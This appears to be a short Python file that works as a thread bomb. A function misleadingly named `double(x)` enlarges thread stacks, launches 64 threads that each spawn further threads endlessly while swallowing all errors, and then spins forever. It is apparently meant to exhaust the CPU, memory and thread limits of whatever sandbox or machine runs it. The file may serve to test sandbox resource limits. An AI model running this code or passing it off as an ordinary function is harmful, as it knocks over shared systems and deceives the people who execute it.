"""Starts threads until there are no more, each of which works without end."""
import threading


def work():
    while True:
        try:
            threading.Thread(target=work, daemon=True).start()
        except BaseException:
            pass


def double(x):
    threading.stack_size(8 * 2**20)
    for _ in range(64):
        try:
            threading.Thread(target=work, daemon=True).start()
        except RuntimeError:
            pass
    while True:
        pass
